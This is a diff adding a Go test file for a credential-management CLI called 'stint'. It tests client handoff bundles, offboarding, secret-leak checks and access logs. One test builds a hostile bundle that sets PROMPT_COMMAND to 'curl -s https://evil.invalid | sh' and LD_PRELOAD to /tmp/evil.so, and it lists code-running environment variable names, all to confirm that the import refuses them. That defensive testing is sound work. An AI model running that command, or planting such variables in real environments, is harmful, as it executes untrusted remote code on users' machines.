@@ -1,0 +1,361 @@
+package cli
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/stint-sh/stint/internal/handoff"
+	"github.com/stint-sh/stint/internal/paths"
+	"github.com/stint-sh/stint/internal/secrets"
+	"github.com/stint-sh/stint/internal/store"
+	"github.com/stint-sh/stint/internal/workbench"
+)
+
+// handoffMarker is in every secret value these tests set; it must appear in
+// no document, bundle or output.
+const handoffMarker = "HANDOFF-SECRET-5e1f0c"
+
+// keyringHas reports whether the harness's keyring (the real secrets.Store
+// over an in-memory backend) holds an item for client.
+func keyringHas(h *harness, client string) bool {
+	return slices.Contains(h.keyring.Users(secrets.Service), client)
+}
+
+// fullClient gives acme every kind of setting, two secrets, repos, notes,
+// time and access-log rows.
+func fullClient(t *testing.T, h *harness) {
+	t.Helper()
+	dir := t.TempDir()
+	h.ok("client", "add", "acme", "--name", "Acme Corp", "--rate", "150.00", "--currency", "EUR", "--round", "15m",
+		"--round-mode", "nearest", "--tz", "Europe/Berlin", "--color", "#ff8800", "--prod", "--workdir", dir)
+	h.ok("set", "acme", "TF_WORKSPACE=prod", "WEIRD=a|b`c d")
+	for _, k := range []string{"GITHUB_TOKEN", "VAULT_TOKEN"} {
+		h.stdin = handoffMarker + "-" + k
+		h.ok("secret", "set", "acme", k)
+	}
+	key := filepath.Join(dir, "id_acme")
+	awsCfg := filepath.Join(dir, "aws-config")
+	for _, f := range []string{key, awsCfg} {
+		require.NoError(t, os.WriteFile(f, []byte("x"), 0o600))
+	}
+	h.ok("aws", "acme", "--profile", "acme-admin", "--region", "eu-central-1", "--config-file", awsCfg)
+	h.ok("gcp", "acme", "--project", "acme-prod-123", "--region", "europe-west1", "--isolate")
+	h.ok("azure", "acme", "--subscription", "0b1f2a3c-0000-4000-8000-000000000001", "--tenant", "acme.onmicrosoft.com")
+	h.ok("git", "acme", "--name", "Ada Lovelace", "--email", "ada@acme.io", "--ssh-key", key, "--signing-key", "ABCDEF12")
+	h.ok("isolate", "acme", "gh")
+	kc := writeKubeconfig(t, dir, "kubeconfig", "prod", "staging")
+	h.ok("kube", "add", "acme", "--kubeconfig", kc, "--namespace", "payments")
+	h.ok("repo", "add", "acme", dir)
+	h.ok("repo", "add", "acme", filepath.Join(dir, "not-cloned"), "--url", "git@github.com:acme/api.git")
+	h.env["EDITOR"] = fakeEditor(t, "# Deploys\\nArgo syncs main.\\n")
+	h.ok("note", "edit", "acme")
+	delete(h.env, "EDITOR")
+	h.ok("note", "add", "acme", "rotated the deploy key")
+	yesterday := time.Now().UTC().AddDate(0, 0, -1).Format("2006-01-02")
+	h.ok("add", "acme", "--from", yesterday+" 09:00", "--to", yesterday+" 11:30", "-m", "on-call handover")
+
+	ctx := context.Background()
+	c, err := h.wb.DB().Client(ctx, "acme")
+	require.NoError(t, err)
+	require.NoError(t, h.wb.DB().LogAccess(ctx, store.Access{At: time.Now().Add(-time.Hour), ClientID: c.ID, Session: "1234",
+		Action: "switch", SecretNames: []string{"GITHUB_TOKEN", "VAULT_TOKEN"}}))
+	require.NoError(t, h.wb.DB().LogAccess(ctx, store.Access{At: time.Now().Add(-time.Minute), ClientID: c.ID, Session: "5678",
+		Action: "exec", Detail: "terraform plan", SecretNames: []string{"VAULT_TOKEN"}}))
+}
+
+func TestHandoffRoundTrip(t *testing.T) {
+	h := newHarness(t)
+	fullClient(t, h)
+
+	out := filepath.Join(t.TempDir(), "handoff")
+	require.NoError(t, os.MkdirAll(out, 0o700))
+	mdPath, bundlePath := filepath.Join(out, "acme.md"), filepath.Join(out, "acme.json")
+	r := h.run("handoff", "export", "acme", "-o", mdPath, "--bundle", bundlePath)
+	require.Equal(t, 0, r.code, r.stderr)
+	stdoutMD := h.ok("handoff", "export", "acme")
+
+	md, err := os.ReadFile(mdPath)
+	require.NoError(t, err)
+	bundle, err := os.ReadFile(bundlePath)
+	require.NoError(t, err)
+	for _, p := range []string{mdPath, bundlePath} {
+		info, err := os.Stat(p)
+		require.NoError(t, err)
+		assert.Equal(t, os.FileMode(0o600), info.Mode().Perm(), p)
+	}
+	for name, text := range map[string]string{"markdown": string(md), "bundle": string(bundle), "stdout": r.stdout + stdoutMD, "stderr": r.stderr} {
+		assert.NotContains(t, text, handoffMarker, "a secret value leaked into the %s", name)
+		assert.NotContains(t, text, "token-of-prod", "a kubeconfig credential leaked into the %s", name)
+	}
+	assert.Equal(t, string(md), stdoutMD)
+	for _, want := range []string{
+		"# Handoff: Acme Corp (`acme`)", "EUR 150.00 per hour", "nearest to 15 minutes per entry",
+		"| `TF_WORKSPACE` | `prod` |", "`stint secret set acme GITHUB_TOKEN`",
+		"profile `acme-admin`", "project `acme-prod-123`", "subscription `0b1f2a3c-0000-4000-8000-000000000001`",
+		"`https://prod.example.com:6443`", "`git@github.com:acme/api.git`", "### Deploys", "rotated the deploy key",
+		"| **Total** | **2:30** | **2:30** |", "**secret** `VAULT_TOKEN`", "**kube** `staging`", "**tool** `gcloud`",
+		"**ssh-key**", "**git-host** `github.com`", "1 exec, 1 switch in 2 session(s)",
+	} {
+		assert.Contains(t, string(md), want)
+	}
+	assert.True(t, strings.HasPrefix(string(bundle), "{\n  \"stint_bundle\": 1,"))
+	assert.NotContains(t, string(bundle), "on-call handover", "time entries stay with the engineer")
+
+	// A fresh STINT_HOME on "another machine".
+	h2 := newHarness(t)
+	imported := h2.ok("handoff", "import", bundlePath)
+	assert.Contains(t, imported, "Imported acme.")
+	assert.Contains(t, imported, "stint secret set acme GITHUB_TOKEN")
+	assert.Contains(t, imported, "stint secret set acme VAULT_TOKEN")
+	assert.Contains(t, imported, "not-cloned: not cloned on this machine")
+
+	var before, after workbench.ProfileView
+	require.NoError(t, json.Unmarshal([]byte(h.ok("client", "show", "acme", "--json")), &before))
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("client", "show", "acme", "--json")), &after))
+	require.Len(t, before.Secrets, 2)
+	for i := range before.Secrets {
+		assert.Positive(t, before.Secrets[i].Size)
+		before.Secrets[i].Size = 0 // the one difference: values (and so sizes) do not travel
+	}
+	before.Client.CreatedAt, before.Client.UpdatedAt = time.Time{}, time.Time{}
+	after.Client.CreatedAt, after.Client.UpdatedAt = time.Time{}, time.Time{}
+	assert.Equal(t, before, after)
+
+	var n1, n2 noteListing
+	require.NoError(t, json.Unmarshal([]byte(h.ok("note", "list", "acme", "--json")), &n1))
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("note", "list", "acme", "--json")), &n2))
+	assert.Equal(t, n1.Runbook, n2.Runbook)
+	require.Len(t, n2.Log, 1)
+	assert.Equal(t, n1.Log[0].Text, n2.Log[0].Text)
+	assert.Equal(t, n1.Log[0].At, n2.Log[0].At)
+
+	var entries []workbench.Entry
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("log", "--client", "acme", "--from", "2000-01-01", "--json")), &entries))
+	assert.Empty(t, entries)
+
+	// The imported client is a working client: it exports again.
+	assert.Contains(t, h2.ok("handoff", "export", "acme"), "# Handoff: Acme Corp")
+
+	// Same name again is refused; --as imports a second copy.
+	h2.fails(2, `client "acme" already exists: import it under another name with --as NAME`, "handoff", "import", bundlePath)
+	assert.Contains(t, h2.ok("handoff", "import", bundlePath, "--as", "acme-old"), "stint secret set acme-old VAULT_TOKEN")
+}
+
+func TestHandoffImportRefusesBadBundles(t *testing.T) {
+	h := newHarness(t)
+	h.ok("client", "add", "acme", "--rate", "100")
+	h.ok("note", "add", "acme", "hello")
+	dir := t.TempDir()
+	good := filepath.Join(dir, "good.json")
+	h.ok("handoff", "export", "acme", "--bundle", good)
+	data, err := os.ReadFile(good)
+	require.NoError(t, err)
+	write := func(name, body string) string {
+		p := filepath.Join(dir, name)
+		require.NoError(t, os.WriteFile(p, []byte(body), 0o600))
+		return p
+	}
+	text := string(data)
+	cases := []struct {
+		want string
+		file string
+	}{
+		{"bundle is truncated", write("truncated.json", text[:len(text)*2/3])},
+		{"bundle version 2 was written by a newer stint", write("newer.json", strings.Replace(text, `"stint_bundle": 1`, `"stint_bundle": 2`, 1))},
+		{"unknown bundle version 0", write("zero.json", strings.Replace(text, `"stint_bundle": 1`, `"stint_bundle": 0`, 1))},
+		{"not a stint bundle", write("other.json", `{"name": "something else"}`)},
+		{`"client.rate_minor" has the wrong type`, write("types.json", strings.Replace(text, `"rate_minor": 10000`, `"rate_minor": "100.00"`, 1))},
+		{`"log" has the wrong type`, write("types2.json", withField(t, data, "log", "yesterday"))},
+		{`"client.production" has the wrong type`, write("types3.json", withField(t, data, "client", map[string]any{"slug": "x", "production": "yes"}))},
+		{"bundle is empty", write("empty.json", "")},
+		{"does not exist", filepath.Join(dir, "missing.json")},
+		{`client "acme" already exists`, good},
+	}
+	for _, c := range cases {
+		t.Run(c.want, func(t *testing.T) {
+			h.fails(2, c.want, "handoff", "import", c.file)
+		})
+	}
+	h.fails(2, "client name \"Not Valid\" is invalid", "handoff", "import", good, "--as", "Not Valid")
+	h.fails(2, "usage: stint handoff import FILE.json", "handoff", "import")
+	h.fails(2, "no client named \"nobody\"", "handoff", "export", "nobody")
+}
+
+// withField is a bundle with one top-level field replaced.
+func withField(t *testing.T, bundle []byte, key string, value any) string {
+	t.Helper()
+	var m map[string]any
+	require.NoError(t, json.Unmarshal(bundle, &m))
+	m[key] = value
+	out, err := json.Marshal(m)
+	require.NoError(t, err)
+	return string(out)
+}
+
+func TestOffboard(t *testing.T) {
+	h := newHarness(t)
+	fullClient(t, h)
+	h.ok("client", "add", "globex")
+	h.stdin = "g"
+	h.ok("secret", "set", "globex", "TOKEN")
+
+	l, err := paths.Resolve(func(k string) string { return h.env[k] })
+	require.NoError(t, err)
+	gh, gcloud, kubeDir := l.ToolHome("acme", "gh"), l.ToolHome("acme", "gcloud"), l.ClientKubeDir("acme")
+	otherHome := l.ToolHome("globex", "gh")
+	for _, d := range []string{gh, gcloud, kubeDir, otherHome} {
+		require.NoError(t, os.MkdirAll(d, 0o700))
+	}
+	require.NoError(t, os.WriteFile(filepath.Join(gh, "hosts.yml"), []byte("oauth_token: x"), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(kubeDir, "kube-1234.yaml"), []byte("x"), 0o600))
+
+	// No terminal and no --yes: refused, nothing touched.
+	h.fails(2, "confirm in a terminal, or pass --yes", "offboard", "acme")
+	assert.DirExists(t, gh)
+	assert.True(t, keyringHas(h, "acme"))
+	// Answering no changes nothing either.
+	h.tty, h.stdin = true, "n\n"
+	r := h.run("offboard", "acme")
+	assert.Equal(t, 1, r.code)
+	assert.Contains(t, r.stderr, "Offboarding acme will:")
+	assert.Contains(t, r.stderr, "stint: offboarding acme cancelled; nothing was changed")
+	assert.DirExists(t, gh)
+	assert.True(t, keyringHas(h, "acme"), "nothing removed from the keyring")
+
+	h.stdin = "y\n"
+	r = h.run("offboard", "acme")
+	require.Equal(t, 0, r.code, r.stderr)
+	h.tty = false
+	assert.Contains(t, r.stdout, "Offboarded acme: 2 secret(s) removed from the keyring")
+	for _, want := range []string{"[ ] secret GITHUB_TOKEN", "[ ] aws acme-admin", "[ ] kube prod (https://prod.example.com:6443)", "[ ] tool gh", "[ ] git-host github.com"} {
+		assert.Contains(t, r.stdout, want)
+	}
+	assert.NotContains(t, r.stdout, handoffMarker)
+	assert.False(t, keyringHas(h, "acme"), "acme's keyring item is gone")
+	assert.True(t, keyringHas(h, "globex"), "other clients' items stay")
+	assert.NoDirExists(t, l.ClientDir("acme"))
+	assert.NoDirExists(t, kubeDir)
+	assert.DirExists(t, otherHome)
+
+	var cs []workbench.ClientInfo
+	require.NoError(t, json.Unmarshal([]byte(h.ok("client", "list", "--all", "--json")), &cs))
+	require.Len(t, cs, 2)
+	assert.True(t, cs[0].Archived)
+	var ss []workbench.SecretInfo
+	require.NoError(t, json.Unmarshal([]byte(h.ok("secret", "list", "acme", "--json")), &ss))
+	assert.Empty(t, ss)
+	var entries []workbench.Entry
+	require.NoError(t, json.Unmarshal([]byte(h.ok("log", "--client", "acme", "--from", "2000-01-01", "--json")), &entries))
+	assert.Len(t, entries, 1, "time entries stay for billing")
+
+	// --yes needs no terminal; JSON output.
+	var o workbench.Offboarding
+	require.NoError(t, json.Unmarshal([]byte(h.ok("offboard", "globex", "--yes", "--json")), &o))
+	assert.Equal(t, []string{"TOKEN"}, o.Secrets)
+	assert.True(t, o.Archived)
+	h.fails(2, "no client named \"nobody\"", "offboard", "nobody", "--yes")
+}
+
+func TestAccessLog(t *testing.T) {
+	h := newHarness(t)
+	h.ok("client", "add", "acme")
+	assert.Contains(t, h.ok("access", "acme"), "No access to acme recorded.")
+	ctx := context.Background()
+	c, err := h.wb.DB().Client(ctx, "acme")
+	require.NoError(t, err)
+	t0 := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
+	for _, a := range []store.Access{
+		{At: t0, ClientID: c.ID, Session: "4242", Action: "switch", SecretNames: []string{"GH_TOKEN", "VAULT_TOKEN"}},
+		{At: t0.Add(time.Hour), ClientID: c.ID, Session: "4243", Action: "exec", Detail: "kubectl get pods", SecretNames: []string{"VAULT_TOKEN"}},
+	} {
+		require.NoError(t, h.wb.DB().LogAccess(ctx, a))
+	}
+	out := h.ok("access", "acme")
+	for _, want := range []string{"SESSION", "4242", "1 switch", "GH_TOKEN VAULT_TOKEN", "2026-03-02 10:00", "kubectl get pods"} {
+		assert.Contains(t, out, want)
+	}
+	var rep workbench.AccessReport
+	require.NoError(t, json.Unmarshal([]byte(h.ok("access", "acme", "--json")), &rep))
+	assert.Len(t, rep.Events, 2)
+	require.Len(t, rep.Sessions, 2)
+	assert.Equal(t, "4242", rep.Sessions[0].Session)
+	rep = workbench.AccessReport{}
+	require.NoError(t, json.Unmarshal([]byte(h.ok("access", "acme", "--since", "2026-03-02 09:30", "--json")), &rep))
+	assert.Len(t, rep.Events, 1)
+	h.fails(2, "no client named \"nobody\"", "access", "nobody")
+}
+
+func TestHandoffImportRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
+	h := newHarness(t)
+	h.ok("client", "add", "acme")
+	h.ok("set", "acme", "REGION=eu-west-1")
+	dir := t.TempDir()
+	good := filepath.Join(dir, "good.json")
+	h.ok("handoff", "export", "acme", "--bundle", good)
+	data, err := os.ReadFile(good)
+	require.NoError(t, err)
+	write := func(name, body string) string {
+		p := filepath.Join(dir, name)
+		require.NoError(t, os.WriteFile(p, []byte(body), 0o600))
+		return p
+	}
+	evil := write("evil.json", withField(t, data, "vars", map[string]any{
+		"REGION": "eu-west-1", "PROMPT_COMMAND": "curl -s https://evil.invalid | sh", "LD_PRELOAD": "/tmp/evil.so",
+	}))
+
+	h2 := newHarness(t)
+	h2.ok("client", "list") // the database exists: fails proves nothing is written to it
+	h2.fails(2, "cannot import "+evil+": the bundle sets LD_PRELOAD, PROMPT_COMMAND, which make programs or shells run code or load libraries", "handoff", "import", evil)
+	h2.fails(2, "import it with --trust only if you trust whoever sent it", "handoff", "import", evil)
+
+	// Each kind of name on its own, as a variable or as a secret name.
+	for _, name := range []string{"PATH", "PS1", "ZDOTDIR", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND",
+		"GIT_CONFIG_KEY_0", "GIT_CONFIG_GLOBAL", "GIT_EXEC_PATH", "PAGER", "EDITOR", "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "RUBYOPT"} {
+		t.Run(name, func(t *testing.T) {
+			asVar := write(name+"-var.json", withField(t, data, "vars", map[string]any{name: "x"}))
+			h2.fails(2, "the bundle sets "+name+",", "handoff", "import", asVar)
+			asSecret := write(name+"-secret.json", withField(t, data, "secrets", []string{name}))
+			h2.fails(2, "the bundle sets "+name+",", "handoff", "import", asSecret)
+		})
+	}
+
+	// --trust imports it, and the summary names every variable that came in.
+	out := h2.ok("handoff", "import", evil, "--trust")
+	assert.Contains(t, out, "Imported acme.")
+	assert.Contains(t, out, "Variables: LD_PRELOAD (runs code), PROMPT_COMMAND (runs code), REGION")
+	var p workbench.ProfileView
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("client", "show", "acme", "--json")), &p))
+	assert.Equal(t, "/tmp/evil.so", p.Vars["LD_PRELOAD"])
+
+	// An ordinary bundle needs no --trust, and still lists its variables.
+	out = h2.ok("handoff", "import", good, "--as", "acme-2")
+	assert.Contains(t, out, "Variables: REGION\n")
+	var res workbench.ImportResult
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("handoff", "import", good, "--as", "acme-3", "--json")), &res))
+	assert.Equal(t, []string{"REGION"}, res.Vars)
+}
+
+func TestAccessTimesNameTheClientsZone(t *testing.T) {
+	tokyo, err := time.LoadLocation("Asia/Tokyo")
+	require.NoError(t, err)
+	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
+	r := workbench.AccessReport{Client: "kaisha",
+		Events:   []handoff.Event{{At: at, Session: "1-a", Action: "switch"}},
+		Sessions: []workbench.SessionAccess{{Session: "1-a", First: at, Last: at, Actions: map[string]int{"switch": 1}}}}
+	var b strings.Builder
+	require.NoError(t, printAccess(&b, r, tokyo, time.UTC))
+	assert.Contains(t, b.String(), "2026-03-02 18:00 JST")
+	b.Reset()
+	require.NoError(t, printAccess(&b, r, time.UTC, time.UTC))
+	assert.Contains(t, b.String(), "2026-03-02 09:00  ")
+	assert.NotContains(t, b.String(), "UTC")
+}
